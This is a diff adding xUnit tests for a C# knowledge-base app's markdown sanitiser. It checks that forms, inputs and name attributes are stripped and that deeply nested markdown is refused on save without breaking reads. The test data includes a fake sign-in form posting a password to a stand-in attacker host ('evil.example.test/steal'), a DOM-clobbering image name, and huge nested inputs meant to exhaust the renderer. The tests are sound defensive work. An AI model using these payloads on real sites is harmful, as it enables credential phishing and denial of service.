@@ -1,6 +1,8 @@
 using System.Net;
 using System.Text.RegularExpressions;
 using Microsoft.EntityFrameworkCore;
+using Microsoft.Extensions.DependencyInjection;
+using UpworkAssist.Web.Data;
 using UpworkAssist.Web.Features.Knowledge;
 using UpworkAssist.Web.Tests.Infrastructure;
 
@@ -67,6 +69,78 @@ public sealed partial class KnowledgeBaseTests(ComplianceApp app) : IClassFixtur
         Assert.DoesNotContain("javascript:", body, StringComparison.OrdinalIgnoreCase);
         Assert.DoesNotMatch("(?i)\\son[a-z]+\\s*=", body);
         Assert.DoesNotContain("alert(", body.Replace("alert('xss')", "", StringComparison.Ordinal), StringComparison.Ordinal);
+    }
+
+    [Fact]
+    public async Task Forms_their_controls_and_name_attributes_are_removed_and_checklists_keep_their_boxes()
+    {
+        var lead = await app.SignedInAsync("Lead");
+        const string markdown = """
+            Sign in again to read this page:
+
+            <form action="https://evil.example.test/steal" method="post"><input name="password" type="password"><button formaction="https://evil.example.test">Sign in</button><select name="s"><option>a</option></select><textarea name="t">x</textarea></form>
+            <img name="getElementById" src="https://example.test/a.png" alt="clobber">
+
+            - [x] done item
+            - [ ] open item
+            """;
+        Assert.Equal(HttpStatusCode.Redirect, (await lead.SubmitAsync("/Knowledge/Edit", Page("form-check", markdown))).StatusCode);
+
+        var body = await BodyAsync(lead, "form-check");
+        foreach (var tag in new[] { "<form", "<input", "<button", "<select", "<option", "<textarea" })
+        {
+            Assert.DoesNotContain(tag, body, StringComparison.OrdinalIgnoreCase);
+        }
+        Assert.DoesNotMatch("(?i)\\sname\\s*=", body);
+        Assert.DoesNotContain("evil.example.test", body, StringComparison.Ordinal);
+        Assert.Contains("src=\"https://example.test/a.png\"", body, StringComparison.Ordinal);
+        Assert.Contains("☑ done item", body, StringComparison.Ordinal);
+        Assert.Contains("☐ open item", body, StringComparison.Ordinal);
+    }
+
+    public static TheoryData<string> Nested() =>
+    [
+        new string('>', 5_000) + " deep quote",
+        string.Concat(Enumerable.Range(0, 250).Select(i => new string(' ', i * 3) + "- item\n")),
+        new string('[', 20_000) + "x" + new string(']', 20_000),
+        string.Concat(Enumerable.Repeat("<div>", 15_000)) + "x",
+        string.Concat(Enumerable.Repeat("*a ", 30_000)),
+    ];
+
+    [Theory]
+    [MemberData(nameof(Nested))]
+    public async Task Markdown_nested_too_deeply_to_render_is_refused_on_save_and_never_fails_a_read(string markdown)
+    {
+        var lead = await app.SignedInAsync("Lead");
+        var slug = "deep-" + Guid.NewGuid().ToString("n")[..8];
+        var saved = await lead.SubmitAsync("/Knowledge/Edit", Page(slug, markdown));
+        var renders = app.Services.GetRequiredService<MarkdownRenderer>().TryToSafeHtml(markdown, out _);
+        if (renders)
+        {
+            Assert.Equal(HttpStatusCode.Redirect, saved.StatusCode);
+        }
+        else
+        {
+            Assert.Equal(HttpStatusCode.OK, saved.StatusCode);
+            Assert.Contains("nested too deeply", await saved.Content.ReadAsStringAsync(), StringComparison.Ordinal);
+            await app.WithDbAsync(async db => Assert.False(await db.KnowledgePages.AnyAsync(p => p.Slug == slug)));
+            // A page stored before the check (an older version, or the database edited by hand) still reads.
+            await app.WithDbAsync(async db =>
+            {
+                db.KnowledgePages.Add(new KnowledgePage { Slug = slug, Title = "Deep", Markdown = markdown, UpdatedBy = "old version" });
+                await db.SaveChangesAsync();
+            });
+        }
+        var read = await lead.GetAsync($"/Knowledge/Read?slug={slug}");
+        Assert.Equal(HttpStatusCode.OK, read.StatusCode);
+        Assert.Equal(!renders, (await read.Content.ReadAsStringAsync()).Contains("data-testid=\"unrenderable\"", StringComparison.Ordinal));
+    }
+
+    [Fact]
+    public void The_deepest_case_really_cannot_render()
+    {
+        // Guards the theory above: at least one input takes the refusal path.
+        Assert.Contains(((IEnumerable<object[]>)Nested()).Select(row => (string)row[0]), markdown => !new MarkdownRenderer().TryToSafeHtml(markdown, out _));
     }
 
     [Fact]
